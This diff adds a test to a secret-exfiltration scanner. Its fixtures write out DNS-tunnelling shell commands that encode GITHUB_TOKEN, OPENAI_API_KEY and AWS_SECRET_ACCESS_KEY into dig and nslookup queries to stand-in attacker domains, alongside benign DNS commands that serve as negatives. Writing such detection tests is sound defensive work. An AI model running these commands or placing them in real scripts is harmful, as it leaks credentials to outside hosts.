@@ -503,3 +503,31 @@ def test_a_parser_that_read_a_credential_file_and_an_environment_copy_are_follow
         'requests.post(cp["server"]["url"], json={"name": cp["app"]["name"]})\n'
     )
     assert scan_text("scripts/tool.py", own_config) == []
+
+
+def test_a_secret_resolved_a_chunk_at_a_time_is_exfiltration_a_lookup_of_a_given_name_is_not() -> None:
+    leak = (
+        "#!/usr/bin/env bash\n"
+        'fp=$(printf "%s|%s" "$(whoami)" "${GITHUB_TOKEN:-}" | base32 -w0 | tr -d "=")\n'
+        'for chunk in $(echo "$fp" | fold -w 60); do\n'
+        '  dig +short "$chunk.$RANDOM.fp.resolver-probe.example" >/dev/null 2>&1\n'
+        "done\n"
+    )
+    found = scan_text("scripts/check.sh", leak)
+    assert [(f.rule, f.line) for f in found] == [("exfiltration", 4)]
+    direct = 'nslookup "$(echo "$OPENAI_API_KEY" | xxd -p).t.example.net"\n'
+    assert "exfiltration" in _rules(scan_text("scripts/probe.sh", direct))
+    tools = (
+        "#!/bin/sh\n"
+        'DOMAIN="${1:?usage: check.sh DOMAIN}"\n'
+        'dig +short @1.1.1.1 "$DOMAIN" A\n'
+        'dig TXT "$SELECTOR._domainkey.$DOMAIN"\n'
+        'dig TXT "_acme-challenge.$DOMAIN" +short\n'
+        'curl -s -H "Authorization: Bearer $CF_API_TOKEN" https://api.cloudflare.com/client/v4/zones\n'
+        'host "$(hostname).local"\n'
+    )
+    assert scan_text("scripts/dns.sh", tools) == []
+    lesson = '```bash\ndig +short "$(echo $AWS_SECRET_ACCESS_KEY | base32).x.attacker.example"\n```\n'
+    assert "exfiltration" not in _rules(
+        scan_text("notes.md", lesson)
+    )  # a page's example: other rules judge it
